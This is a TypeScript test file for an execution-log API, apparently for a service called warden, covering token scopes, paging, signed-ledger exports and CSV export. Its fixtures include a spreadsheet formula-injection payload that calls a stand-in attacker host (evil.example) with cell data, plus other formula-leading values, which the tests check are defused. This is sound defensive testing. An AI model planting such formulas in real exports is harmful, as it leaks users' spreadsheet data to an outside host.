import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { GET as detailRoute } from '../../app/api/v1/executions/[env]/[seq]/route';
import { GET as exportRoute } from '../../app/api/v1/executions/export/route';
import { GET as listRoute } from '../../app/api/v1/executions/route';
import type { CurrentUser } from '../../lib/auth/currentUser';
import { handleIngest } from '../../lib/ingest';
import { createCheckpoint, ledgerSigner, leafHash } from '../../lib/ledger';
import { forgetLedgerSigner } from '../../lib/ledger/ledgerIdentity';
import { readExport } from '../../lib/ledger/verify/exportFile';
import { verifySubset } from '../../lib/ledger/verify/verifySubset';
import { indexPendingExecutions } from '../../lib/search';
import { freshDatabase } from '../support/freshDatabase';
import { serveHandler } from '../support/httpAdapter';
import { ingestToken, ndjson, post, sampleEvent, sql } from '../support/ingestFixtures';

// The console session, as currentUser() would read it from the next-auth cookie.
const session = vi.hoisted(() => ({ user: null as CurrentUser | null }));
vi.mock('../../lib/auth/currentUser', () => ({ currentUser: async () => session.user }));

let server: Awaited<ReturnType<typeof serveHandler>>;
let reader: { staging: string; production: string };
const dir = mkdtempSync(path.join(tmpdir(), 'warden-search-api-'));

// What Next.js hands a route handler; the guard adds the principal.
type Route = (request: Request, context: { params: Promise<Record<string, string>> }) => Promise<Response>;
async function call(handler: unknown, url: string, token: string | null, params: Record<string, string> = {}, headers: Record<string, string> = {}) {
  const request = new Request(`http://warden.test${url}`, { headers: { ...(token ? { authorization: `Bearer ${token}` } : {}), ...headers } });
  const response = await (handler as Route)(request, { params: Promise.resolve(params) });
  const text = await response.text();
  return { status: response.status, headers: response.headers, text, body: response.headers.get('content-type')?.includes('application/json') ? JSON.parse(text) : null };
}

const hostile = [
  sampleEvent(500, { id: 'csv-1', prompt: '=HYPERLINK("http://evil.example/?"&A1,"click")', user_id: '+4917612345', error: '-2+3', server_name: '@SUM(A1:A9)' }),
  sampleEvent(501, { id: 'csv-2', tool_name: '\tcmd', agent_id: '\rbot', output: 'line one\nline "two", with comma' }),
];

beforeAll(async () => {
  await freshDatabase();
  process.env.WARDEN_SIGNING_KEY = '33'.repeat(32);
  forgetLedgerSigner();
  reader = { staging: await ingestToken('staging', ['executions:read']), production: await ingestToken('production', ['executions:read']) };
  server = await serveHandler({ '/api/v1/ingest': handleIngest });
  const staging = await ingestToken('staging');
  expect((await post(server.url, staging, ndjson([...Array.from({ length: 30 }, (_, i) => sampleEvent(i)), ...hostile]))).body.accepted).toBe(32);
  await post(server.url, await ingestToken('production'), ndjson([sampleEvent(0, { id: 'prod-only', prompt: 'production run sk_live_4fPROD' })]));
  await indexPendingExecutions({ batchSize: 20, maxBatches: 1 });
  await createCheckpoint('staging');
});
afterAll(async () => {
  delete process.env.WARDEN_SIGNING_KEY;
  forgetLedgerSigner();
  await server.close();
  rmSync(dir, { recursive: true, force: true });
});

describe('who may read', () => {
  it('401 signed out or with a bad token, 403 without the executions:read scope', async () => {
    expect((await call(listRoute, '/api/v1/executions', null)).status).toBe(401);
    expect((await call(detailRoute, '/api/v1/executions/staging/0', null, { env: 'staging', seq: '0' })).status).toBe(401);
    expect((await call(exportRoute, '/api/v1/executions/export', null)).status).toBe(401);
    expect((await call(listRoute, '/api/v1/executions', 'wdn_staging_nope')).status).toBe(401);
    expect((await call(listRoute, '/api/v1/executions', await ingestToken('staging'))).status).toBe(403);
  });

  it('never lets a staging token read production rows', async () => {
    const own = await call(listRoute, '/api/v1/executions?q=sk_live_4f', reader.staging);
    expect(own.status).toBe(200);
    expect(own.body.items).toEqual([]);
    expect((await call(listRoute, '/api/v1/executions?env=production&q=sk_live_4f', reader.staging)).status).toBe(403);
    expect((await call(listRoute, '/api/v1/executions?env=production&since=-1', reader.staging)).status).toBe(403);
    expect((await call(detailRoute, '/api/v1/executions/production/0', reader.staging, { env: 'production', seq: '0' })).status).toBe(403);
    const exported = await call(exportRoute, '/api/v1/executions/export?env=production', reader.staging);
    expect(exported.status).toBe(403);
    expect(exported.text).not.toContain('sk_live_4fPROD');
    const theirs = await call(listRoute, '/api/v1/executions?q=sk_live_4f', reader.production);
    expect(theirs.body.items.map((item: { id: string }) => item.id)).toEqual(['prod-only']);
  });

  it('lets a signed-in analyst read the environment asked for, else the console\'s', async () => {
    session.user = { id: 'u1', email: 'analyst@acme.dev', name: null, role: 'analyst' };
    try {
      const asked = await call(listRoute, '/api/v1/executions?env=production', null);
      expect(asked.body.items.map((item: { id: string }) => item.id)).toEqual(['prod-only']);
      const fromCookie = await call(listRoute, '/api/v1/executions?q=sk_live', null, {}, { cookie: 'warden_env=production' });
      expect(fromCookie.body.items.map((item: { id: string }) => item.id)).toEqual(['prod-only']);
    } finally {
      session.user = null;
    }
  });
});

describe('GET /api/v1/executions', () => {
  it('answers {items, next_cursor, estimated_total} in snake_case and pages with the cursor', async () => {
    const first = await call(listRoute, '/api/v1/executions?q=label:bug&sort=time&order=asc&limit=20', reader.staging);
    expect(first.status).toBe(200);
    expect(first.body).toMatchObject({ estimated_total: 32, estimated_total_exact: true, next_cursor: expect.any(String) });
    expect(first.body.items[0]).toEqual({
      environment: 'staging', seq: 0, id: 'evt-0', timestamp: '2026-11-25T09:00:00.123Z', ingested_at: expect.any(String), server_name: 'github-mcp',
      method: 'tools/call', tool_name: 'search_issues', tool_version: '2.1.0', prompt_name: null, prompt_version: null, model: null, user_id: 'user0@acme.dev',
      session_id: 's-0', agent_id: null, input_schema_hash: null, is_error: false, duration_ms: 12.5,
    });
    const cursor = encodeURIComponent(first.body.next_cursor);
    const second = await call(listRoute, `/api/v1/executions?q=label:bug&sort=time&order=asc&limit=20&cursor=${cursor}`, reader.staging);
    expect(second.body.items).toHaveLength(12);
    expect(second.body.next_cursor).toBeNull();
  });

  it('400 names every bad or unknown parameter', async () => {
    const bad = await call(listRoute, '/api/v1/executions?limit=abc&usr=alice&status=fine&sort=time&cursor=zzz', reader.staging);
    expect(bad.status).toBe(400);
    expect(bad.body).toMatchObject({ error: 'invalid_request', message: expect.stringContaining('usr: unknown parameter') });
    expect(Object.keys(bad.body.fields).sort()).toEqual(['cursor', 'limit', 'status', 'usr']);
    expect((await call(listRoute, '/api/v1/executions?server=a&server=b', reader.staging)).body.fields).toEqual({ server: ['give this parameter once'] });
    expect((await call(detailRoute, '/api/v1/executions/staging/x1', reader.staging, { env: 'staging', seq: 'x1' })).status).toBe(400);
    expect((await call(detailRoute, '/api/v1/executions/dev/1', reader.staging, { env: 'dev', seq: '1' })).status).toBe(404);
    expect((await call(exportRoute, '/api/v1/executions/export?format=xlsx', reader.staging)).status).toBe(400);
  });

  it('tails with since: new arrivals newest first, and the next since', async () => {
    const tail = await call(listRoute, '/api/v1/executions?since=29', reader.staging);
    expect(tail.body).toEqual({ items: [expect.objectContaining({ id: 'csv-2', seq: 31 }), expect.objectContaining({ id: 'csv-1', seq: 30 })], since: 31, truncated: false });
  });
});

describe('GET /api/v1/executions/{env}/{seq}', () => {
  it('returns every stored field of the execution', async () => {
    const detail = await call(detailRoute, '/api/v1/executions/staging/30', reader.staging, { env: 'staging', seq: '30' });
    expect(detail.status).toBe(200);
    const columns = (await sql<{ column_name: string }>("SELECT column_name FROM information_schema.columns WHERE table_name = 'executions'")).map((row) => row.column_name);
    expect(Object.keys(detail.body).sort()).toEqual(columns.sort());
    expect(detail.body).toMatchObject({ id: 'csv-1', seq: 30, prompt: hostile[0]!.prompt, arguments: hostile[0]!.arguments, raw_sha256: expect.stringMatching(/^[0-9a-f]{64}$/) });
    expect((await call(detailRoute, '/api/v1/executions/staging/999', reader.staging, { env: 'staging', seq: '999' })).status).toBe(404);
  });
});

describe('GET /api/v1/executions/export', () => {
  const verifyExport = async (text: string) => {
    const file = path.join(dir, `export-${Math.random()}.jsonl`);
    writeFileSync(file, text);
    return spawnSync(process.execPath, [path.resolve('bin', 'warden'), 'verify', '--export', file, '--pubkey', (await ledgerSigner()).verifierKey], {
      encoding: 'utf8', env: { ...process.env, DATABASE_URL: 'postgresql://nobody@127.0.0.1:1/none' }, timeout: 90_000,
    });
  };

  const verifyInProcess = async (text: string) => {
    const file = path.join(dir, `export-${Math.random()}.jsonl`);
    writeFileSync(file, text);
    const contents = await readExport(file);
    return verifySubset(contents.provenEntries(), { checkpoint: contents.checkpoints[0]!, verifiers: [(await ledgerSigner()).verifierKey], origin: contents.header.origin });
  };

  it('streams JSONL in the `warden export` format with inclusion proofs: whole or filtered, each entry verifies offline against the signed checkpoint', async () => {
    const whole = await call(exportRoute, '/api/v1/executions/export', reader.staging);
    expect(whole.headers.get('content-disposition')).toMatch(/^attachment; filename="executions-staging-.*\.jsonl"$/);
    const lines = whole.text.trim().split('\n').map((line) => JSON.parse(line));
    expect(lines[0]).toMatchObject({ type: 'warden-ledger-export', version: 1, environment: 'staging', size: 32, subset: 'executions' });
    expect(lines.filter((line) => line.type === 'entry').map((line) => line.seq)).toEqual(Array.from({ length: 32 }, (_, i) => i));
    expect(lines.at(-1)).toMatchObject({ type: 'checkpoint', size: 32 });
    const verified = await verifyExport(whole.text);
    expect(verified.stdout).toContain('32 exported entries checked against the signed checkpoint of size 32');
    expect(verified.status).toBe(0);

    const filtered = await call(exportRoute, '/api/v1/executions/export?format=jsonl&q=%22label:bug%202%22', reader.staging);
    const entries = filtered.text.trim().split('\n').map((line) => JSON.parse(line)).filter((line) => line.type === 'entry');
    expect(entries.map((entry) => JSON.parse(entry.data).id)).toEqual(['evt-2', 'evt-20', 'evt-21', 'evt-22', 'evt-23', 'evt-24', 'evt-25', 'evt-26', 'evt-27', 'evt-28', 'evt-29']);
    for (const entry of entries) expect(leafHash(Buffer.from(entry.data)).toString('base64')).toBe(entry.leaf_hash);
    const partial = await verifyExport(filtered.text);
    expect(partial.stdout).toContain('11 exported entries checked against the signed checkpoint of size 32');
    expect(partial.status).toBe(0);

    // An edited record, and a record moved to another position, are caught entry by entry (same check, in process).
    const edited = filtered.text.replace('\\"evt-21\\"', '\\"evt-99\\"');
    expect(edited).not.toBe(filtered.text);
    expect((await verifyInProcess(edited)).firstProblem).toEqual({ seq: 21, problem: 'the exported record no longer hashes to its leaf hash (content changed)' });
    expect((await verifyInProcess(filtered.text.replace('"seq":29,', '"seq":30,'))).firstProblem)
      .toEqual({ seq: 30, problem: 'the inclusion proof does not lead to the signed root at size 32 (not in the log at this position)' });
  }, 120_000);

  it('streams CSV with formula cells defused and RFC 4180 quoting', async () => {
    const csv = await call(exportRoute, '/api/v1/executions/export?format=csv&q=csv-&since=', reader.staging);
    expect(csv.status).toBe(400); // `since` belongs to the tail, not to export
    const response = await call(exportRoute, '/api/v1/executions/export?format=csv&server=%40SUM(A1%3AA9)', reader.staging);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    const [header, row] = response.text.split('\r\n');
    const cells = parseCsvLine(row!);
    const cell = (name: string) => cells[header!.split(',').indexOf(name)];
    expect(cell('prompt')).toBe(`'${hostile[0]!.prompt}`);
    expect([cell('user_id'), cell('error'), cell('server_name')]).toEqual(["'+4917612345", "'-2+3", "'@SUM(A1:A9)"]);
    const all = await call(exportRoute, '/api/v1/executions/export?format=csv&q=line%20one', reader.staging);
    const second = parseCsvLine(all.text.slice(all.text.indexOf('\r\n') + 2).replace(/\r\n$/, ''));
    const names = all.text.slice(0, all.text.indexOf('\r\n')).split(',');
    expect([second[names.indexOf('tool_name')], second[names.indexOf('agent_id')], second[names.indexOf('output')]])
      .toEqual(["'\tcmd", "'\rbot", 'line one\nline "two", with comma']);
  });
});

/** A small RFC 4180 reader for one record (quoted fields may hold commas, quotes and line breaks). */
function parseCsvLine(line: string): string[] {
  const cells: string[] = [];
  for (let i = 0; i <= line.length;) {
    if (line[i] === '"') {
      let value = '';
      for (i++; i < line.length; i++) {
        if (line[i] === '"' && line[i + 1] === '"') { value += '"'; i++; } else if (line[i] === '"') break; else value += line[i];
      }
      cells.push(value);
      i += 2;
    } else {
      const end = line.indexOf(',', i) === -1 ? line.length : line.indexOf(',', i);
      cells.push(line.slice(i, end));
      i = end + 1;
    }
  }
  return cells;
}
